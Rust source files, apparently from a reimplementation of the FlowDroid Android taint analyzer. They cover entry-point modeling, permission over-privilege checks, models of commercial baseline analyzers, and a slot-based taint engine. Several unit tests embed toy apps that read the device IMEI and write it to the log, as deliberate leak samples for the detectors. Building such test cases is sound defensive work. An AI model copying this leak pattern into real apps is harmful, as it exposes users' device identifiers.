    let set_content = program.lookup_symbol("setContentView");
    let Some(set_content) = set_content else { return vec![] };
    let mut out = Vec::new();
    for &m in cg.reachable_methods() {
        let Some(body) = program.method(m).body() else { continue };
        for stmt in body.stmts() {
            let Some(call) = stmt.invoke_expr() else { continue };
            if call.callee.subsig.name != set_content {
                continue;
            }
            if let Some(Operand::Const(Constant::Int(id))) = call.args.first() {
                if let Some(name) = app.resources.layout_name(*id) {
                    if !out.contains(&name.to_owned()) {
                        out.push(name.to_owned());
                    }
                }
            }
        }
    }
    out
}

/// Finds the `name(View)` handler method on the component class chain.
fn find_handler(program: &Program, class: ClassId, name: &str) -> Option<MethodId> {
    let name_sym = program.lookup_symbol(name)?;
    for c in program.supers(class) {
        for &m in program.class(c).methods() {
            let method = program.method(m);
            if method.name() == name_sym && method.has_body() && method.param_count() == 1 {
                return Some(m);
            }
        }
    }
    None
}

/// Scans reachable code for calls to stub methods with
/// callback-interface parameters and resolves the registered listener
/// classes.
fn imperative_callbacks(
    program: &Program,
    platform: &PlatformInfo,
    hierarchy: &Hierarchy,
    cg: &CallGraph,
    component_class: ClassId,
) -> Vec<CallbackInfo> {
    let mut out = Vec::new();
    // Classes allocated in reachable code (candidate listener types).
    let allocated = cg.instantiated_classes();
    for &m in cg.reachable_methods() {
        let Some(body) = program.method(m).body() else { continue };
        for stmt in body.stmts() {
            let Some(call) = stmt.invoke_expr() else { continue };
            // Only system (stub) registrations count.
            let Some(target) = program.resolve_method_ref(&call.callee) else { continue };
            if !platform.stub_methods.contains(&target) {
                continue;
            }
            for (i, param_ty) in call.callee.subsig.params.iter().enumerate() {
                let Some(iface) = param_ty.as_class() else { continue };
                if !platform.callback_interfaces.contains(&iface) {
                    continue;
                }
                // Which classes can the argument be? The component
                // itself (if it implements the interface and the arg is
                // `this`-typed) or any allocated implementing class.
                let arg_is_local = call.args.get(i).and_then(Operand::as_local).is_some();
                if !arg_is_local {
                    continue;
                }
                let mut candidates: Vec<ClassId> = Vec::new();
                if program.is_subtype_of(component_class, iface) {
                    candidates.push(component_class);
                }
                for &cls in allocated {
                    if program.is_subtype_of(cls, iface) && !candidates.contains(&cls) {
                        candidates.push(cls);
                    }
                }
                for cls in candidates {
                    // Every interface method the class implements
                    // becomes a callback.
                    for &im in program.class(iface).methods() {
                        let subsig = program.method(im).subsig().clone();
                        if let Some(target) = hierarchy.dispatch(program, cls, &subsig) {
                            if program.method(target).has_body() {
                                let receiver = if cls == component_class {
                                    CallbackReceiver::Component
                                } else {
                                    CallbackReceiver::Fresh(cls)
                                };
                                out.push(CallbackInfo { method: target, receiver });
                            }
                        }
                    }
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::platform::install_platform;
    use flowdroid_frontend::App;

    const MANIFEST: &str = r#"<manifest package="com.ex">
  <application>
    <activity android:name=".Main"/>
    <activity android:name=".Off" android:enabled="false"/>
  </application>
</manifest>"#;

    const LAYOUT: &str = r#"<LinearLayout>
  <Button android:id="@+id/b" android:onClick="handleClick"/>
</LinearLayout>"#;

    const CODE: &str = r#"
class com.ex.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    let v: android.view.View
    v = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/b)
    let l: com.ex.Listener
    l = new com.ex.Listener
    specialinvoke l.<com.ex.Listener: void <init>()>()
    virtualinvoke v.<android.view.View: void setOnClickListener(android.view.View$OnClickListener)>(l)
    return
  }
  method onLowMemory() -> void {
    return
  }
  method handleClick(v: android.view.View) -> void {
    return
  }
}
class com.ex.Listener extends java.lang.Object implements android.view.View$OnClickListener {
  method <init>() -> void {
    return
  }
  method onClick(v: android.view.View) -> void {
    return
  }
}
class com.ex.Off extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    return
  }
}
"#;

    fn load() -> (Program, PlatformInfo, App) {
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let app = App::from_parts(&mut p, MANIFEST, &[("main", LAYOUT)], CODE).unwrap();
        (p, platform, app)
    }

    #[test]
    fn disabled_components_are_excluded() {
        let (mut p, platform, app) = load();
        let model = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
        assert_eq!(model.components.len(), 1);
        assert_eq!(p.class_name(model.components[0].class), "com.ex.Main");
    }

    #[test]
    fn lifecycle_overrides_are_found() {
        let (mut p, platform, app) = load();
        let model = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
        let main = &model.components[0];
        let names: Vec<_> =
            main.lifecycle.iter().map(|&m| p.str(p.method(m).name())).collect();
        assert_eq!(names, vec!["onCreate"]);
    }

    #[test]
    fn xml_imperative_and_override_callbacks_are_discovered() {
        let (mut p, platform, app) = load();
        let model = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
        let main = &model.components[0];
        assert_eq!(main.layouts, vec!["main".to_owned()]);
        let cb_names: Vec<_> =
            main.callbacks.iter().map(|cb| p.str(p.method(cb.method).name())).collect();
        assert!(cb_names.contains(&"handleClick"), "xml callback: {cb_names:?}");
        assert!(cb_names.contains(&"onClick"), "imperative callback: {cb_names:?}");
        assert!(cb_names.contains(&"onLowMemory"), "override callback: {cb_names:?}");
        // The imperative listener is a fresh instance of the listener class.
        let on_click = main
            .callbacks
            .iter()
            .find(|cb| p.str(p.method(cb.method).name()) == "onClick")
            .unwrap();
        match on_click.receiver {
            CallbackReceiver::Fresh(c) => assert_eq!(p.class_name(c), "com.ex.Listener"),
            other => panic!("expected fresh receiver, got {other:?}"),
        }
    }

    #[test]
    fn global_association_pools_callbacks() {
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let manifest = r#"<manifest package="c">
  <application><activity android:name=".A"/><activity android:name=".B"/></application>
</manifest>"#;
        let code = r#"
class c.A extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void { return }
  method onLowMemory() -> void { return }
}
class c.B extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void { return }
}
"#;
        let app = App::from_parts(&mut p, manifest, &[], code).unwrap();
        let per = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
        assert!(per.components[1].callbacks.is_empty());
        let glob = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::Global);
        assert_eq!(glob.components[1].callbacks.len(), 1);
    }

    #[test]
    fn static_initializers_are_collected() {
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let manifest =
            r#"<manifest package="c"><application><activity android:name=".A"/></application></manifest>"#;
        let code = r#"
class c.A extends android.app.Activity {
  static field s: java.lang.String
  static method <clinit>() -> void {
    static c.A.s = "x"
    return
  }
  method onCreate(b: android.os.Bundle) -> void { return }
}
"#;
        let app = App::from_parts(&mut p, manifest, &[], code).unwrap();
        let model = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
        assert_eq!(model.static_initializers.len(), 1);
    }
}
