//! Permission mapping: which Android permissions the app's *reachable*
//! code actually needs, compared against what the manifest declares.
//!
//! The paper motivates FlowDroid with apps leaking data "through a
//! dangerously broad set of permissions granted by the user" and cites
//! Bartel et al. [4] on reducing permission-based attack surface; this
//! module provides that companion analysis on our substrate: a
//! reachability-based map from protected API calls to the permissions
//! they require, yielding the app's *over-privilege* (declared but
//! unused permissions).

use crate::platform::PlatformInfo;
use crate::{generate_dummy_main, CallbackAssociation, EntryPointModel};
use flowdroid_callgraph::{CallGraph, CgAlgorithm};
use flowdroid_frontend::App;
use flowdroid_ir::Program;
use std::collections::BTreeSet;

/// The permission-protected API surface of the platform model:
/// `(class, method, permission)`.
pub const PERMISSION_MAP: &[(&str, &str, &str)] = &[
    ("android.telephony.TelephonyManager", "getDeviceId", "android.permission.READ_PHONE_STATE"),
    (
        "android.telephony.TelephonyManager",
        "getSimSerialNumber",
        "android.permission.READ_PHONE_STATE",
    ),
    ("android.telephony.TelephonyManager", "getLine1Number", "android.permission.READ_PHONE_STATE"),
    ("android.telephony.SmsManager", "sendTextMessage", "android.permission.SEND_SMS"),
    (
        "android.location.LocationManager",
        "requestLocationUpdates",
        "android.permission.ACCESS_FINE_LOCATION",
    ),
    (
        "android.location.LocationManager",
        "getLastKnownLocation",
        "android.permission.ACCESS_FINE_LOCATION",
    ),
    ("java.net.Socket", "<init>", "android.permission.INTERNET"),
    ("java.net.URL", "openConnection", "android.permission.INTERNET"),
];

/// The result of a permission analysis.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PermissionReport {
    /// Permissions required by reachable API calls.
    pub required: BTreeSet<String>,
    /// Permissions declared in the manifest.
    pub declared: BTreeSet<String>,
}

impl PermissionReport {
    /// Declared but never needed (the over-privilege / attack surface).
    pub fn over_privileged(&self) -> BTreeSet<String> {
        self.declared.difference(&self.required).cloned().collect()
    }

    /// Needed but not declared (the app would crash at runtime).
    pub fn missing(&self) -> BTreeSet<String> {
        self.required.difference(&self.declared).cloned().collect()
    }
}

/// Computes the permissions required by code reachable through the
/// app's lifecycle (the same entry-point model the taint analysis
/// uses), and compares them against the manifest.
pub fn analyze_permissions(
    program: &mut Program,
    platform: &PlatformInfo,
    app: &App,
    tag: &str,
) -> PermissionReport {
    let model = EntryPointModel::build(program, platform, app, CallbackAssociation::PerComponent);
    let main = generate_dummy_main(program, platform, &model, tag);
    let cg = CallGraph::build(program, &[main], CgAlgorithm::Cha);
    let mut required = BTreeSet::new();
    for &m in cg.reachable_methods() {
        let Some(body) = program.method(m).body() else { continue };
        for stmt in body.stmts() {
            let Some(call) = stmt.invoke_expr() else { continue };
            let cname = program.class_name(call.callee.class);
            let mname = program.str(call.callee.subsig.name);
            for (pc, pm, perm) in PERMISSION_MAP {
                if cname == *pc && mname == *pm {
                    required.insert((*perm).to_owned());
                }
            }
        }
    }
    let declared: BTreeSet<String> = app.manifest.permissions.iter().cloned().collect();
    PermissionReport { required, declared }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::install_platform;

    const MANIFEST: &str = r#"<manifest package="pp">
  <uses-permission android:name="android.permission.READ_PHONE_STATE"/>
  <uses-permission android:name="android.permission.SEND_SMS"/>
  <uses-permission android:name="android.permission.CAMERA"/>
  <application><activity android:name=".Main"/></application>
</manifest>"#;

    const CODE: &str = r#"
class pp.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    return
  }
  method unreachableHelper() -> void {
    let sms: android.telephony.SmsManager
    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()
    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>("x", null, "y", null, null)
    return
  }
}
"#;

    #[test]
    fn over_privilege_is_detected() {
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let app = App::from_parts(&mut p, MANIFEST, &[], CODE).unwrap();
        let report = analyze_permissions(&mut p, &platform, &app, "perm");
        assert!(report.required.contains("android.permission.READ_PHONE_STATE"));
        // sendTextMessage lives in a method no lifecycle/callback
        // reaches, so SEND_SMS is *not* required.
        assert!(!report.required.contains("android.permission.SEND_SMS"));
        let over: Vec<String> = report.over_privileged().into_iter().collect();
        assert_eq!(
            over,
            vec![
                "android.permission.CAMERA".to_owned(),
                "android.permission.SEND_SMS".to_owned()
            ]
        );
        assert!(report.missing().is_empty());
    }

    #[test]
    fn missing_permission_is_detected() {
        let manifest = r#"<manifest package="pp2">
  <application><activity android:name=".Main"/></application>
</manifest>"#;
        let code = CODE.replace("pp.Main", "pp2.Main");
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let app = App::from_parts(&mut p, manifest, &[], &code).unwrap();
        let report = analyze_permissions(&mut p, &platform, &app, "perm2");
        assert!(report.missing().contains("android.permission.READ_PHONE_STATE"));
    }
}
