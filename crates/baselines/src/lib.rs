#![warn(missing_docs)]

//! Simplified models of the commercial baseline analyzers of Table 1.
//!
//! The paper compares FlowDroid against IBM AppScan Source 8.7 and HP
//! Fortify SCA 5.14. The binaries are proprietary, so this crate
//! re-implements the *analysis characteristics* the paper attributes to
//! them on our own substrate:
//!
//! * **both** lack a lifecycle model: every component method is analyzed
//!   as an isolated entry point, so data stored in a field during one
//!   lifecycle callback is invisible to the next; UI callbacks (XML
//!   `onClick`, imperative listeners) and framework-delivered callback
//!   parameters are not modeled at all; the `android:enabled` manifest
//!   flag is ignored (the InactiveActivity false positive);
//! * **both** are flow-insensitive within an entry (a [`SlotEngine`]
//!   fixpoint over taint *slots*), object-insensitive across instances
//!   (one global slot per field), and index-insensitive for arrays;
//! * **Fortify** additionally treats *static fields* as a global,
//!   order-insensitive channel shared between all entry points — the
//!   quirk the paper identifies as the only reason Fortify "finds" 4 of
//!   the 6 lifecycle leaks ("when removing the static modifier …
//!   Fortify does not detect the leak any longer").

mod engine;

pub use engine::{BaselineResults, SlotEngine};

use flowdroid_android::{EntryPointModel, PlatformInfo};
use flowdroid_core::{SourceSinkManager, TaintWrapper};
use flowdroid_frontend::App;
use flowdroid_ir::Program;

/// Which commercial tool to model.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum BaselineTool {
    /// IBM AppScan Source 8.7 (paper §6.1).
    AppScanLike,
    /// HP Fortify SCA 5.14 (paper §6.1): AppScan behavior plus the
    /// static-field channel.
    FortifyLike,
}

impl BaselineTool {
    /// Display name.
    pub fn name(self) -> &'static str {
        match self {
            BaselineTool::AppScanLike => "AppScan-like",
            BaselineTool::FortifyLike => "Fortify-like",
        }
    }
}

/// Runs a baseline tool on an app, returning the number of reported
/// leaks (distinct sink statements).
pub fn analyze_app(
    tool: BaselineTool,
    program: &mut Program,
    platform: &PlatformInfo,
    app: &App,
    sources: &SourceSinkManager,
    wrapper: &TaintWrapper,
) -> BaselineResults {
    // No lifecycle model: entry points are the component methods
    // themselves, analyzed in isolation. The `enabled` flag is ignored
    // — rebuild the model over *all* manifest components.
    let mut all_enabled = app.manifest.clone();
    for c in &mut all_enabled.components {
        c.enabled = true;
    }
    let app_all = App {
        manifest: all_enabled,
        layouts: app.layouts.clone(),
        resources: app.resources.clone(),
        classes: app.classes.clone(),
    };
    let model = EntryPointModel::build(
        program,
        platform,
        &app_all,
        flowdroid_android::CallbackAssociation::PerComponent,
    );
    // Lifecycle methods only — no discovered callbacks (commercial
    // tools lack the callback model).
    let mut entries = Vec::new();
    for comp in &model.components {
        entries.extend(comp.lifecycle.iter().copied());
    }
    entries.extend(model.static_initializers.iter().copied());

    let share_statics = tool == BaselineTool::FortifyLike;
    let engine = SlotEngine::new(program, sources, wrapper, share_statics);
    engine.run(&entries)
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_android::install_platform;

    fn run(tool: BaselineTool, manifest: &str, code: &str) -> usize {
        let mut p = Program::new();
        let platform = install_platform(&mut p);
        let app = App::from_parts(&mut p, manifest, &[], code).unwrap();
        let sources = SourceSinkManager::default_android();
        let wrapper = TaintWrapper::default_rules();
        analyze_app(tool, &mut p, &platform, &app, &sources, &wrapper).leak_count()
    }

    const MANIFEST: &str = r#"<manifest package="b">
  <application><activity android:name=".A"/></application>
</manifest>"#;

    /// IMEI → Log directly in onCreate: both tools find it.
    const DIRECT: &str = r#"
class b.A extends android.app.Activity {
  method onCreate(x: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return
  }
}
"#;

    /// Static-field flow across lifecycle methods: only Fortify's quirk
    /// sees it.
    const STATIC_LIFECYCLE: &str = r#"
class b.A extends android.app.Activity {
  static field im: java.lang.String
  method onCreate(x: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    static b.A.im = id
    return
  }
  method onStop() -> void {
    let t: java.lang.String
    t = static b.A.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#;

    /// Instance-field flow across lifecycle methods: both tools miss it.
    const INSTANCE_LIFECYCLE: &str = r#"
class b.A extends android.app.Activity {
  field im: java.lang.String
  method onCreate(x: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    this.im = id
    return
  }
  method onStop() -> void {
    let t: java.lang.String
    t = this.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#;

    #[test]
    fn both_tools_find_direct_leaks() {
        assert_eq!(run(BaselineTool::AppScanLike, MANIFEST, DIRECT), 1);
        assert_eq!(run(BaselineTool::FortifyLike, MANIFEST, DIRECT), 1);
    }

    #[test]
    fn only_fortify_sees_static_lifecycle_flows() {
        assert_eq!(run(BaselineTool::AppScanLike, MANIFEST, STATIC_LIFECYCLE), 0);
        assert_eq!(run(BaselineTool::FortifyLike, MANIFEST, STATIC_LIFECYCLE), 1);
    }

    #[test]
    fn both_tools_miss_instance_lifecycle_flows() {
        assert_eq!(run(BaselineTool::AppScanLike, MANIFEST, INSTANCE_LIFECYCLE), 0);
        assert_eq!(run(BaselineTool::FortifyLike, MANIFEST, INSTANCE_LIFECYCLE), 0);
    }

    #[test]
    fn disabled_components_are_analyzed_anyway() {
        let manifest = r#"<manifest package="b">
  <application><activity android:name=".A" android:enabled="false"/></application>
</manifest>"#;
        assert_eq!(
            run(BaselineTool::AppScanLike, manifest, DIRECT),
            1,
            "baselines ignore android:enabled (InactiveActivity FP)"
        );
    }
}
