//! A flow-insensitive, context-insensitive taint fixpoint over *slots*.
//!
//! This is deliberately the kind of analysis the paper's commercial
//! baselines implement: it has no statement ordering (a taint written
//! anywhere in an entry's reachable code is visible everywhere in it),
//! one global slot per field (object-insensitive), whole-object arrays,
//! and no lifecycle model (the caller analyzes each entry separately).

use flowdroid_callgraph::{CallGraph, CgAlgorithm, Icfg};
use flowdroid_core::wrappers::Pos;
use flowdroid_core::{SourceSinkManager, TaintWrapper};
use flowdroid_ir::{
    FieldId, Local, MethodId, Operand, Place, Program, Rvalue, Stmt, StmtRef,
};
use std::collections::HashSet;

/// A taintable location in the slot domain.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
enum Slot {
    /// A local variable of a specific method (context-insensitive).
    Local(MethodId, Local),
    /// Any instance's `field` (object-insensitive).
    Field(FieldId),
    /// A static field.
    Static(FieldId),
}

/// Results of a baseline run.
#[derive(Clone, Debug, Default)]
pub struct BaselineResults {
    /// Distinct sink statements reached by tainted data.
    pub leaky_sinks: Vec<StmtRef>,
}

impl BaselineResults {
    /// Number of reported leaks.
    pub fn leak_count(&self) -> usize {
        self.leaky_sinks.len()
    }
}

/// The slot-based fixpoint engine.
#[derive(Debug)]
pub struct SlotEngine<'a> {
    program: &'a Program,
    sources: &'a SourceSinkManager,
    wrapper: &'a TaintWrapper,
    /// Fortify quirk: static-field slots persist across entry points.
    share_statics: bool,
}

impl<'a> SlotEngine<'a> {
    /// Creates an engine.
    pub fn new(
        program: &'a Program,
        sources: &'a SourceSinkManager,
        wrapper: &'a TaintWrapper,
        share_statics: bool,
    ) -> Self {
        SlotEngine { program, sources, wrapper, share_statics }
    }

    /// Analyzes each entry point in isolation (sharing static slots
    /// across entries when modeling Fortify, iterated to a fixpoint).
    pub fn run(&self, entries: &[MethodId]) -> BaselineResults {
        let mut leaks: HashSet<StmtRef> = HashSet::new();
        let mut shared_statics: HashSet<FieldId> = HashSet::new();
        loop {
            let statics_before = shared_statics.len();
            for &entry in entries {
                let (entry_leaks, statics) = self.run_one(entry, &shared_statics);
                leaks.extend(entry_leaks);
                if self.share_statics {
                    shared_statics.extend(statics);
                }
            }
            if !self.share_statics || shared_statics.len() == statics_before {
                break;
            }
        }
        let mut leaky_sinks: Vec<StmtRef> = leaks.into_iter().collect();
        leaky_sinks.sort();
        BaselineResults { leaky_sinks }
    }

    /// One entry point: fixpoint over slots; returns (leaky sinks,
    /// tainted static fields).
    fn run_one(
        &self,
        entry: MethodId,
        seed_statics: &HashSet<FieldId>,
    ) -> (HashSet<StmtRef>, HashSet<FieldId>) {
        let program = self.program;
        let cg = CallGraph::build(program, &[entry], CgAlgorithm::Cha);
        let icfg = Icfg::new(program, &cg);
        let mut tainted: HashSet<Slot> = HashSet::new();
        for &f in seed_statics {
            tainted.insert(Slot::Static(f));
        }
        let mut leaks = HashSet::new();
        loop {
            let before = tainted.len();
            for &m in cg.reachable_methods() {
                let Some(body) = program.method(m).body() else { continue };
                for (idx, stmt) in body.stmts().iter().enumerate() {
                    self.transfer(&icfg, StmtRef::new(m, idx), stmt, &mut tainted, &mut leaks);
                }
            }
            if tainted.len() == before {
                break;
            }
        }
        let statics = tainted
            .iter()
            .filter_map(|s| match s {
                Slot::Static(f) => Some(*f),
                _ => None,
            })
            .collect();
        (leaks, statics)
    }

    fn slot_of_place(m: MethodId, p: &Place) -> Slot {
        match p {
            Place::Local(l) => Slot::Local(m, *l),
            Place::InstanceField(_, f) => Slot::Field(*f),
            Place::StaticField(f) => Slot::Static(*f),
            // Whole-array handling: the array local is the slot.
            Place::ArrayElem(b, _) => Slot::Local(m, *b),
        }
    }

    fn operand_tainted(m: MethodId, o: &Operand, tainted: &HashSet<Slot>) -> bool {
        matches!(o, Operand::Local(l) if tainted.contains(&Slot::Local(m, *l)))
    }

    fn transfer(
        &self,
        icfg: &Icfg<'_>,
        at: StmtRef,
        stmt: &Stmt,
        tainted: &mut HashSet<Slot>,
        leaks: &mut HashSet<StmtRef>,
    ) {
        let program = self.program;
        let m = at.method;
        match stmt {
            Stmt::Assign { lhs, rhs } => {
                let rhs_tainted = match rhs {
                    Rvalue::Read(p) => tainted.contains(&Self::slot_of_place(m, p)),
                    Rvalue::Cast(_, o) | Rvalue::UnOp(_, o) => {
                        Self::operand_tainted(m, o, tainted)
                    }
                    Rvalue::BinOp(_, a, b) => {
                        Self::operand_tainted(m, a, tainted)
                            || Self::operand_tainted(m, b, tainted)
                    }
                    _ => false,
                };
                if rhs_tainted {
                    tainted.insert(Self::slot_of_place(m, lhs));
                }
            }
            Stmt::Invoke { result, call } => {
                // Sinks.
                let sink_args = self.sources.sink_args(program, call);
                for i in sink_args {
                    if let Some(Operand::Local(a)) = call.args.get(i) {
                        if tainted.contains(&Slot::Local(m, *a)) {
                            leaks.insert(at);
                        }
                    }
                }
                // Sources (return value).
                if self.sources.is_source_call(program, call) {
                    if let Some(r) = result {
                        tainted.insert(Slot::Local(m, *r));
                    }
                }
                // Wrapper rules.
                let covers = |pos: Pos| -> bool {
                    TaintWrapper::pos_local(call, *result, pos)
                        .is_some_and(|l| tainted.contains(&Slot::Local(m, l)))
                };
                for pos in self.wrapper.apply(program, call, &covers) {
                    if let Some(l) = TaintWrapper::pos_local(call, *result, pos) {
                        tainted.insert(Slot::Local(m, l));
                    }
                }
                // Calls into analyzed code: context-insensitive
                // arg→param and return→result mapping.
                for &callee in icfg.callees_of_call(at) {
                    let cm = program.method(callee);
                    for (i, arg) in call.args.iter().enumerate() {
                        if i < cm.param_count() && Self::operand_tainted(m, arg, tainted) {
                            tainted.insert(Slot::Local(callee, cm.param_local(i)));
                        }
                    }
                    if let (Some(base), Some(this)) = (call.base, cm.this_local()) {
                        if tainted.contains(&Slot::Local(m, base)) {
                            tainted.insert(Slot::Local(callee, this));
                        }
                    }
                    if let Some(r) = result {
                        // Any tainted returned local taints the result.
                        if let Some(body) = cm.body() {
                            for s in body.stmts() {
                                if let Stmt::Return { value: Some(Operand::Local(v)) } = s {
                                    if tainted.contains(&Slot::Local(callee, *v)) {
                                        tainted.insert(Slot::Local(m, *r));
                                    }
                                }
                            }
                        }
                    }
                }
                // Stub fallback: tainted receiver/arg taints the result.
                if icfg.callees_of_call(at).is_empty()
                    && !self.wrapper.has_rule(program, call)
                    && !self.sources.is_source_call(program, call)
                {
                    let any = call.base.is_some_and(|b| tainted.contains(&Slot::Local(m, b)))
                        || call.args.iter().any(|a| Self::operand_tainted(m, a, tainted));
                    if any {
                        if let Some(r) = result {
                            tainted.insert(Slot::Local(m, *r));
                        }
                    }
                }
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_frontend::layout::ResourceTable;
    use flowdroid_frontend::parse_jasm;

    fn engine_run(code: &str, entry: (&str, &str), share_statics: bool) -> usize {
        let mut p = Program::new();
        flowdroid_android::install_platform(&mut p);
        let rt = ResourceTable::new();
        parse_jasm(&mut p, &rt, code).unwrap();
        let sources = SourceSinkManager::default_android();
        let wrapper = TaintWrapper::default_rules();
        let entry = p.find_method(entry.0, entry.1).unwrap();
        let engine = SlotEngine::new(&p, &sources, &wrapper, share_statics);
        engine.run(&[entry]).leak_count()
    }

    #[test]
    fn flow_insensitivity_ignores_ordering() {
        // Sink *before* the source still reports: no statement order.
        let code = r#"
class B extends android.app.Activity {
  method go() -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    id = "clean"
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    return
  }
}
"#;
        assert_eq!(engine_run(code, ("B", "go"), false), 1);
    }

    #[test]
    fn object_insensitivity_shares_field_slots() {
        let code = r#"
class D extends java.lang.Object {
  field f: java.lang.String
  method <init>() -> void { return }
}
class B extends android.app.Activity {
  method go() -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    let d1: D
    let d2: D
    let t: java.lang.String
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    d1 = new D
    specialinvoke d1.<D: void <init>()>()
    d2 = new D
    specialinvoke d2.<D: void <init>()>()
    d1.f = id
    t = d2.f
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#;
        assert_eq!(engine_run(code, ("B", "go"), false), 1, "one global slot per field");
    }
}
