//! The interprocedural control-flow graph consumed by IFDS solvers.

use crate::graph::CallGraph;
use flowdroid_ir::{MethodId, Program, Stmt, StmtIdx, StmtRef};

/// An interprocedural CFG view over a [`Program`] and a [`CallGraph`].
///
/// Mirrors the API of Soot/Heros' `BiDiInterproceduralCFG`: statement
/// successors and predecessors, callees of a call site, callers and
/// start/exit points of methods, and return sites of calls.
#[derive(Debug, Clone, Copy)]
pub struct Icfg<'a> {
    program: &'a Program,
    callgraph: &'a CallGraph,
}

impl<'a> Icfg<'a> {
    /// Creates the view.
    pub fn new(program: &'a Program, callgraph: &'a CallGraph) -> Self {
        Self { program, callgraph }
    }

    /// The underlying program.
    pub fn program(&self) -> &'a Program {
        self.program
    }

    /// The underlying call graph.
    pub fn callgraph(&self) -> &'a CallGraph {
        self.callgraph
    }

    /// The statement behind a reference.
    ///
    /// # Panics
    ///
    /// Panics if the method has no body or the index is out of range.
    pub fn stmt(&self, r: StmtRef) -> &'a Stmt {
        self.program.method(r.method).body().expect("method has no body").stmt(r.idx)
    }

    /// Intraprocedural successors.
    pub fn succs_of(&self, r: StmtRef) -> Vec<StmtRef> {
        let body = self.program.method(r.method).body().expect("method has no body");
        body.cfg().succs(r.idx).iter().map(|&i| StmtRef::new(r.method, i)).collect()
    }

    /// Intraprocedural predecessors.
    pub fn preds_of(&self, r: StmtRef) -> Vec<StmtRef> {
        let body = self.program.method(r.method).body().expect("method has no body");
        body.cfg().preds(r.idx).iter().map(|&i| StmtRef::new(r.method, i)).collect()
    }

    /// Returns `true` if the statement is a call.
    pub fn is_call(&self, r: StmtRef) -> bool {
        self.stmt(r).is_call()
    }

    /// Returns `true` if the statement exits its method.
    pub fn is_exit(&self, r: StmtRef) -> bool {
        self.stmt(r).is_exit()
    }

    /// Body-having callees of a call site.
    pub fn callees_of_call(&self, r: StmtRef) -> &'a [MethodId] {
        self.callgraph.callees_at(r)
    }

    /// Body-less (stub) callees of a call site.
    pub fn stub_callees_of_call(&self, r: StmtRef) -> &'a [MethodId] {
        self.callgraph.stub_callees_at(r)
    }

    /// Call sites that invoke `m`.
    pub fn callers_of(&self, m: MethodId) -> &'a [StmtRef] {
        self.callgraph.callers_of(m)
    }

    /// The entry statement(s) of a method (single entry at index 0).
    pub fn start_points_of(&self, m: MethodId) -> Vec<StmtRef> {
        match self.program.method(m).body() {
            Some(b) if !b.is_empty() => vec![StmtRef::new(m, b.entry())],
            _ => vec![],
        }
    }

    /// All exit statements (returns/throws) of a method.
